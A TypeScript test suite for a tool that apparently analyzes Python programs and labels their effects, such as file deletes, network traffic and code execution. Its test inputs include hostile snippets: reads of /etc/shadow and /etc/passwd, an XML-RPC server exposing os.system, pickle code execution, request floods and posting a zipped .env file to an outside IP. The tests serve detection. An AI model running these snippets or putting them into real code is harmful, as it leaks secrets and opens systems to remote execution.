import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { effectTexts } from "./python-effect-texts.ts";
import { readPython } from "./read.ts";

describe("calls with an unknown number of arguments", () => {
  it.each([
    ["read ?", "import os\ndef f(*parts):\n    open(os.path.join(*parts))"],
    ["read ?", "import os, sys\nopen(os.path.join('notes', *sys.argv[1:]))"],
    ["read ?", "from pathlib import Path\nimport sys\nPath(*sys.argv).read_text()"],
    ["read notes/a", "import os\nparts = ['notes', 'a']\nopen(os.path.join(*parts))"],
    ["execute from input", "import os, sys\nos.system('{} {}'.format(*sys.argv))"],
  ])("%s: %j", (text, program) => {
    expect(effectTexts(program)).toContain(text);
  });

  it("zip(*rows) of an unknown list has no effects", () => {
    expect(effectTexts("def turn(rows): return [sum(row) for row in zip(*rows)]")).toEqual([]);
  });

  const callees = fc.constantFrom(
    ..."zip map filter min max range enumerate dict sorted print getattr str bytes open itertools.chain itertools.islice os.path.join pathlib.Path functools.partial ''.join ''.format [].append {}.get random.sample shlex.split".split(
      " ",
    ),
  );
  const given = fc.constantFrom("*a", "**a", "*[]", "*[1, 'b']", "**{'b': 1}", "a", "'b'", "1", "-1", "None", "b=1");

  it("no builtin throws for any combination of arguments", () => {
    fc.assert(
      fc.property(callees, fc.array(given, { maxLength: 4 }), (callee, passed) => {
        const program = `import os, pathlib, functools, itertools, random, shlex\nfor x, *y in ${callee}(${passed.join(", ")}): print(x)`;
        expect(() => readPython(program)).not.toThrow();
      }),
    );
  });
});

describe("paths of files that the program finds in directories", () => {
  it.each([
    [
      "delete **/__pycache__",
      "from pathlib import Path\nimport shutil\nfor p in Path('.').rglob('__pycache__'): shutil.rmtree(p)",
    ],
    ["delete notes/*.bak", "from pathlib import Path\n[p.unlink() for p in Path('notes').glob('*.bak')]"],
    ["delete notes/*", "from pathlib import Path\nfor p in Path('notes').iterdir(): p.unlink()"],
    ["delete **/*.pyc", "import glob, os\nfor p in glob.glob('**/*.pyc', recursive=True): os.remove(p)"],
    [
      "delete **/*.pyc",
      "import os\nfor d, _, names in os.walk('.'):\n  for n in names:\n    if n.endswith('.pyc'): os.remove(os.path.join(d, n))",
    ],
    [
      "delete **/*.o",
      "from pathlib import Path\nfor p in Path('.').rglob('*'):\n  if p.suffix in ('.o', '.a'): p.unlink()",
    ],
    ["delete *", "import os\nfor n in os.listdir('.'):\n  if n.endswith('.pyc'): print(n)\n  os.remove(n)"],
    ["delete *", "import os\nfor n in os.listdir('.'):\n  if not n.endswith('.pyc'): os.remove(n)"],
    [
      "delete src/**/*",
      "from pathlib import Path\nfor d, _, names in Path('src').walk():\n  for n in names: (d / n).unlink()",
    ],
    [
      "read **",
      "import subprocess\nfor n in subprocess.check_output(['git', 'ls-files'], text=True).splitlines(): open(n)",
    ],
    [
      "read ?",
      "import subprocess\nfor n in subprocess.check_output(['cat', 'names'], text=True).splitlines(): open(n)",
    ],
    ["read **/b.txt", "from importlib import resources\nresources.files('a').joinpath('b.txt').read_text()"],
    ["write /tmp/*/a", "def test_it(tmp_path):\n    (tmp_path / 'a').write_text('b')"],
  ])("%s: %j", (text, program) => {
    expect(effectTexts(program)).toContain(text);
  });
});

describe("methods that are called as functions of their class", () => {
  it.each([
    ["delete a", "import pathlib\npathlib.Path.unlink(pathlib.Path('a'))"],
    ["delete a", "from pathlib import Path\nlist(map(Path.unlink, [Path('a')]))"],
    ["delete d/*", "from pathlib import Path\n[*map(Path.unlink, Path('d').iterdir())]"],
    ["delete ?", "from pathlib import Path\ndef f(p): Path.unlink(p)"],
    ["read a", "from pathlib import Path\nprint(Path.read_text(Path('a')))"],
    [
      "network out x.io",
      "import socket\ns = socket.socket()\nsocket.socket.connect(s, ('x.io', 1))\nsocket.socket.send(s, b'a')",
    ],
  ])("%s: %j", (text, program) => {
    expect(effectTexts(program).join("; ")).toContain(text);
  });

  it("have no effect if they only compute", () => {
    expect(
      effectTexts("from pathlib import Path\nprint(Path.cwd(), Path.home(), str.upper('a'), list.copy([1]))"),
    ).toEqual([]);
  });
});

describe("programs that a library starts for the program", () => {
  it.each([
    ["delete a", "import os\np = os.popen('sh', 'w')\np.write('rm a')\np.close()"],
    ["delete a", "import sh\nsh.rm('-rf', 'a')"],
    ["delete a", "from sh import rm\nrm('a')"],
    ["delete a", "from plumbum.cmd import rm\nrm('-rf', 'a')"],
    ["delete a", "get_ipython().run_cell_magic('bash', '', 'rm a')"],
  ])("%s: %j", (text, program) => {
    expect(effectTexts(program).join("; ")).toContain(text);
  });

  it("does not take a part of an endless iterator for all of it", () => {
    const program = "import itertools, functools\nprint(list(itertools.islice(itertools.count(1), 5)))";
    expect(effectTexts(program)).toEqual([]);
    expect(effectTexts("import itertools\nlist(itertools.count(1))").join()).toContain("memory");
  });
});

describe("directories in which modules are searched", () => {
  it.each(["sys.path.insert(0, '/tmp')", "sys.path.append('/dev/shm/a')", "site.addsitedir('/tmp/x')"])(
    "%s lets everybody add modules",
    (call) => {
      expect(readPython(`import sys, site\n${call}`).effects).toMatchObject([{ kind: "persist", where: "settings" }]);
    },
  );

  it("of the project have no effect", () => {
    expect(effectTexts("import sys\nsys.path.insert(0, 'src')\nsys.path.append('..')")).toEqual([]);
  });
});

describe("paths built from the program's own file", () => {
  const at = { workingDirectory: "/home/ada/project", home: "/home/ada" };

  it.each([
    ["Path(__file__).parent / 'a'", ["/home/ada/project/**/a"]],
    ["Path(__file__).resolve().parent.parent / 'a'", ["/home/ada/project/**/a"]],
    ["os.path.dirname(os.path.abspath(__file__)) + '/a'", ["/home/ada/project/**/a"]],
    ["Path(__file__).parent / '..' / 'a'", ["/home/ada/a", "/home/ada/project/**/a"]],
    ["Path(__file__).parents[3] / 'etc/shadow'", ["/home/ada/etc/shadow", "/home/ada/project/**/etc/shadow"]],
    [
      "os.path.dirname(__file__) + '/../../../etc/shadow'",
      ["/etc/shadow", "/home/etc/shadow", "/home/ada/etc/shadow", "/home/ada/project/**/etc/shadow"],
    ],
  ])("%s", (path, expected) => {
    const { effects } = readPython(`import os\nfrom pathlib import Path\nopen(${path})`, at);
    expect(effects.map((effect) => effect.kind === "read" && effect.target?.path)).toEqual(expected);
  });

  it("treats the directory of the file as the start directory", () => {
    expect(effectTexts("import os\nos.chdir(os.path.dirname(os.path.abspath(__file__)))\nopen('a')")).toEqual([
      "read a",
    ]);
  });

  it("a path has as many parents as directories", () => {
    expect(effectTexts("from pathlib import Path\nopen(Path('/usr/lib/x/y').parents[3] / 'etc/shadow')")).toEqual([
      "read /etc/shadow",
    ]);
  });
});

describe("environment variables and program arguments", () => {
  it.each([
    [["read a"], "import os\nopen(os.environ.get('F', 'a'))"],
    [["read a"], "import os\nopen(os.getenv('F', default='a'))"],
    [["read ?"], "import os\nopen(os.environ.get('F'))"],
    [["read a", "read /etc/shadow"], "import os\nos.environ['F'] = '/etc/shadow'\nopen(os.environ.get('F', 'a'))"],
    [["read a", "read /etc/shadow"], "import os\nos.environ.setdefault('F', '/etc/shadow')\nopen(os.getenv('F', 'a'))"],
    [["read ?"], "import os\nos.environ.update(x)\nopen(os.environ.get('F', 'a'))"],
    [["read ?"], "import os\nos.environ[x] = y\nopen(os.environ.get('F', 'a'))"],
    [["read a"], "import sys\nsys.argv = ['p', 'a']\nopen(sys.argv[1])"],
    [["read ?", "read a"], "import sys\nif x: sys.argv = ['p', 'a']\nopen(sys.argv[1])"],
  ])("%j: %j", (expected, program) => {
    expect(effectTexts(program).toSorted()).toEqual(expected.toSorted());
  });

  it("a command around the program may set a variable that has a default", () => {
    expect(effectTexts(`import os\nos.system("python -c 'import os; open(os.getenv(\\"F\\", \\"a\\"))'")`)).toContain(
      "read ?",
    );
  });
});

describe("instances of classes that the program defines", () => {
  it.each([
    [
      "read notes/a",
      "from dataclasses import dataclass\n@dataclass\nclass A:\n    p: str\n    n: int = 1\n    def f(self): open(self.p)\nA('notes/a').f()",
    ],
    [
      "read notes/a",
      "from dataclasses import dataclass\n@dataclass\nclass A:\n    d: str\n@dataclass\nclass B(A):\n    n: str\n    def f(self): open(self.d + '/' + self.n)\nB('notes', n='a').f()",
    ],
    [
      "delete notes/a",
      "import os\nfrom dataclasses import dataclass\n@dataclass\nclass A:\n    p: str\n    def __post_init__(self): os.remove(self.p)\nA('notes/a')",
    ],
  ])("%s: %j", (text, program) => {
    expect(effectTexts(program)).toContain(text);
  });
});

describe("hosts of connections", () => {
  it.each([
    [
      ["network in localhost", "network out localhost", "network from network", "network listen localhost"],
      "import asyncio\nasync def answer(reader, writer):\n    writer.write(await reader.readline())\nasyncio.run(asyncio.start_server(answer, 'localhost', 9))",
    ],
    [
      ["network out localhost", "network from network", "network in localhost", "network listen localhost"],
      "import socketserver\nclass H(socketserver.BaseRequestHandler):\n    def handle(self): self.request.sendall(self.request.recv(9))\nsocketserver.TCPServer(('localhost', 9), H).serve_forever()",
    ],
    [
      ["network listen localhost", "network out localhost"],
      "import socket, socketserver\ns = socketserver.TCPServer(('localhost', 9), None)\nsocket.create_connection(s.server_address)",
    ],
    [["read a/b.html"], "import webbrowser, pathlib\nwebbrowser.open('a/b.html')"],
    [["read /etc/passwd"], "import urllib.request\nurllib.request.urlopen('file:///etc/passwd').read()"],
    [["network in x.example"], "from selenium import webdriver\nb = webdriver.Firefox()\nb.get('https://x.example/')"],
    [
      ["network in x.example"],
      "from playwright.sync_api import sync_playwright\nwith sync_playwright() as p:\n    p.chromium.launch().new_page().goto('https://x.example/')",
    ],
    [
      ["anything", "execute code", "execute from network", "network listen 0.0.0.0"],
      "import os\nfrom xmlrpc.server import SimpleXMLRPCServer\ns = SimpleXMLRPCServer(('0.0.0.0', 9))\ns.register_function(os.system, 'run')",
    ],
  ])("%j: %j", (expected, program) => {
    expect([...new Set(effectTexts(program))].toSorted()).toEqual(expected.toSorted());
  });
});

describe("the amount and frequency of network traffic", () => {
  const send = (made: string): string =>
    `import socket, os\n${made}\ns = socket.create_connection(('x.example', 9))\ns.sendall(data)`;

  it.each([
    "data = bytearray(10000)",
    "data = os.urandom(20000)",
    "data = 'b'.rjust(10000, 'a').encode()",
    "data = 'b'.replace('b', 'a' * 20000).encode()",
    "text = ''\nfor i in range(10000): text = text + 'a'\ndata = text.encode()",
    "text = 'a'\nwhile len(text) < 1000000: text += text\ndata = text.encode()",
  ])("exhausts a resource: %j", (made) => {
    expect(effectTexts(send(made))).toContain("exhaust network");
  });

  it.each([
    "data = b'a' * 4096",
    "data = os.urandom(32)",
    "text = ''\nwhile len(text) < 80: text += 'a'\ndata = text.encode()",
  ])("does not exhaust a resource: %j", (made) => {
    expect(effectTexts(send(made))).not.toContain("exhaust network");
  });

  it.each([
    [true, "for i in range(100000): requests.get('http://x.example/')"],
    [true, "[requests.get('http://x.example/') for _ in range(50000)]"],
    [false, "for page in range(200): requests.get('http://x.example/', params={'page': page})"],
    [false, "while page < 100000:\n    requests.get('http://x.example/')\n    time.sleep(1)"],
  ])("a flood: %s: %j", (flood, program) => {
    expect(effectTexts(`import requests, time\n${program}`).includes("exhaust network")).toBe(flood);
  });
});

describe("commands as lists of words", () => {
  it.each([
    ["delete notes", "cmd = ['rm', '-r', 'notes']\nif dry: cmd = ['echo'] + cmd\nsubprocess.run(cmd)"],
    ["delete ", "cmd = ['git', 'clean', '-fd']\nif dry: cmd = cmd + ['-n']\nsubprocess.run(cmd)"],
  ])("a word that one branch adds is missing in the other: %s: %j", (text, program) => {
    expect(effectTexts(`import subprocess\n${program}`)).toContain(text);
  });
});

describe("signals to processes", () => {
  it.each([
    [true, "import psutil\nfor p in filter(lambda p: p.name() == 'x', psutil.process_iter()): p.kill()"],
    [true, "import psutil, itertools\nfor p in itertools.islice(psutil.process_iter(), 3): p.kill()"],
    [true, "import os\nos.killpg(os.getpgid(4321), 15)"],
    [false, "import os, subprocess\np = subprocess.Popen(['make'])\nos.killpg(os.getpgid(p.pid), 15)"],
  ])("signals a process of others is %s: %j", (ends, program) => {
    expect(effectTexts(program).includes("signal")).toBe(ends);
  });
});

describe("loaders of serialized data", () => {
  it.each([
    ["execute from literal", "import ruamel.yaml\nruamel.yaml.YAML(typ='unsafe').load('a: 1')"],
    [
      "deserialize",
      "import configparser, base64\nconfigparser.ConfigParser().read_string(base64.b64decode(x).decode())",
    ],
  ])("%s: %j", (text, program) => {
    expect(effectTexts(program)).toContain(text);
  });

  it("a safe loader runs no code", () => {
    expect(effectTexts("import ruamel.yaml\nruamel.yaml.YAML().load(open('a'))")).toEqual(["read a"]);
  });
});

describe("functions that the program never calls", () => {
  it("functions without parameters run first and pass arguments to the others", () => {
    const program =
      "import unittest\ndef save(path): open(path, 'w')\n" +
      "class SaveTest(unittest.TestCase):\n  def test_save(self): save('out/a')\nunittest.main()";
    expect(effectTexts(program)).toEqual(["write out/a"]);
  });

  it("tests with fixtures run before other functions with parameters", () => {
    const program =
      "from unittest import mock\ndef save(path): open(path, 'w')\n" +
      "@mock.patch('find')\ndef check(find): save('out/a')\ndef test_save(found): save('out/b')";
    expect(effectTexts(program)).toEqual(["write out/a", "write out/b"]);
  });

  it("a class method receives its class", () => {
    const program = "class Notes:\n  path = 'notes.txt'\n  @classmethod\n  def load(cls): return open(cls.path)\n";
    expect(effectTexts(program)).toEqual(["read notes.txt"]);
    expect(effectTexts(`${program}Notes.load()`)).toEqual(["read notes.txt"]);
    expect(effectTexts(`${program}Notes().load()`)).toEqual(["read notes.txt"]);
  });
});

describe("data that the program pickles and unpickles itself", () => {
  const twice = "pickle.loads(pickle.dumps(A()))";

  it.each([
    [`import pickle\nclass A: pass\n${twice}`, []],
    [
      `import pickle\nclass A:\n  def __reduce__(self): return find()\n${twice}`,
      ["execute code", "execute from unknown"],
    ],
    [`import pickle\nclass A: pass\nA.__reduce__ = find()\n${twice}`, ["execute code", "execute from unknown"]],
    ["import pickle\nclass A: pass\npickle.loads(pickle.dumps(find()))", ["execute code", "execute from unknown"]],
  ])("%j: %j", (program, expected) => {
    expect(effectTexts(program)).toEqual(expected);
  });
});

describe("archives and workbooks", () => {
  it.each([
    ["import io, tarfile\nb = io.BytesIO()\nt = tarfile.open(fileobj=b, mode='w')\nt.add('a')", ["read a"]],
    ["import io, zipfile\nz = zipfile.ZipFile(io.BytesIO(), 'w')\nz.writestr('a', 'b')", []],
    [
      "import pandas as pd\nwith pd.ExcelWriter('a.xlsx') as book: pd.DataFrame(rows()).to_excel(book)",
      ["write a.xlsx", "write a.xlsx"],
    ],
  ])("%j: %j", (program, expected) => {
    expect(effectTexts(program)).toEqual(expected);
  });

  it("an archive in memory holds the data that was written to it", () => {
    const program =
      "import io, zipfile, requests\nb = io.BytesIO()\nz = zipfile.ZipFile(b, 'w')\n" +
      "z.writestr('a', open('.env').read())\nrequests.post('http://192.0.2.1', data=b.getvalue())";
    expect(effectTexts(program)).toContain("network from file .env");
  });
});

it("reads class patterns and guards of match statements", () => {
  const program = "import os\nmatch x:\n  case int() | C() as v if os.remove('a'):\n    os.remove('b')";
  expect(effectTexts(program)).toEqual(["delete a", "delete b"]);
});

describe("a command with an unknown part", () => {
  it.each([
    'import subprocess\nsubprocess.run([tool(), "x"])',
    'import subprocess\nsubprocess.run(f"{tool()} /etc/passwd", shell=True)',
  ])("is described without the variable of a shell: %j", (program) => {
    const { effects } = readPython(program);
    expect(JSON.stringify(effects)).not.toContain("BASH_COMMAND");
    expect(effects).toContainEqual(expect.objectContaining({ reason: "it is unknown which program runs" }));
    expect(effects).toContainEqual(expect.objectContaining({ kind: "execute", from: [{ kind: "unknown" }] }));
  });
});

describe("code that a program computes from a file", () => {
  const compute = "exec(''.join(chr(ord(c) ^ 1) for c in open('h').read()))";

  it("is unknown if code has written the file", () => {
    const { effects } = readPython(`open('h', 'w').write(data)\n${compute}`);
    expect(effects.map(({ kind }) => kind)).toContain("anything");
  });

  it("is the project's own if the file was there", () => {
    expect(readPython(compute).effects.map(({ kind }) => kind)).not.toContain("anything");
  });
});
